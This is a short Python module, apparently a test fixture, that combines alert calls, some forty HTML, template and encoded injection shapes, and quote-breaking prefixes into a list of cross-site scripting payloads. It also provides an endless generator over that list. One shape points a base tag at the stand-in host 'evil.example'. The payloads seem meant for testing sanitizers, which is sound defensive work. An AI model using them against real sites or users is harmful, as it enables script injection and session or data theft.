"""Texts that want to run: each would call ``alert`` or leave an element if it were ever markup."""

from collections.abc import Iterator
from itertools import product

CALLS = ("alert(1)", "alert`1`", "window.alert(1)", "top['al'+'ert'](1)", "Function('alert(1)')()")
SHAPES = (
    "<script>{call}</script>", "<script src=data:,{call}></script>", "<img src=x onerror={call}>",
    "<svg onload={call}>", "<svg><script>{call}</script></svg>", "<body onload={call}>",
    "<iframe srcdoc='<script>{call}</script>'>", "<iframe src=javascript:{call}>",
    "<details open ontoggle={call}>", "<video><source onerror={call}></video>",
    "<input autofocus onfocus={call}>", "<a href=javascript:{call}>x</a>",
    "<math><mi xlink:href=javascript:{call}>x</mi></math>", "<object data=javascript:{call}>",
    "<form action=javascript:{call}><button>x</button></form>", "<style>@import 'data:,{call}'</style>",
    "<link rel=stylesheet href=data:,{call}>", "<meta http-equiv=refresh content=0;url=javascript:{call}>",
    "<base href=//evil.example/>", "<template><img src=x onerror={call}></template>",
    "<noscript><p title='</noscript><img src=x onerror={call}>'>", "<xss-mark id=x tabindex=1 onfocus={call}>",
    "javascript:{call}", "data:text/html,<script>{call}</script>", "vbscript:{call}",
    "{{{{constructor.constructor('{call}')()}}}}", "${{{call}}}", "<%= {call} %>", "#{{{call}}}",
    "]]><script>{call}</script>", "--><script>{call}</script>", "*/</style><script>{call}</script>",
    "</textarea><script>{call}</script>", "</title><script>{call}</script>", "</template><svg onload={call}>",
    "\\u003cimg src=x onerror={call}\\u003e", "&lt;img src=x onerror={call}&gt;", "%3Cscript%3E{call}%3C/script%3E",
    "<scr\x00ipt>{call}</scr\x00ipt>", "<ScRiPt>{call}</sCrIpT>", "<<script>{call}//<</script>",
)  # fmt: skip
BREAKS = ("{}", "'{}", '"{}', "'>{}", '">{}', "`>{}", "x' {} x='", '" autofocus x="{}', "\u2028{}", "{}\u202e")  # fmt: skip


def payloads() -> list[str]:
    """Give every way out of a quotation with every shape and call."""
    return [
        out.format(shape.format(call=call)) for call, shape, out in product(CALLS, SHAPES, BREAKS)
    ]


def endless() -> Iterator[tuple[int, str]]:
    """Give them over and over, in an order that mixes the shapes."""
    all_of_them = payloads()
    step, place = 7 * len(BREAKS) + 1, 0
    while True:
        yield place, all_of_them[place]
        place = (place + step) % len(all_of_them)
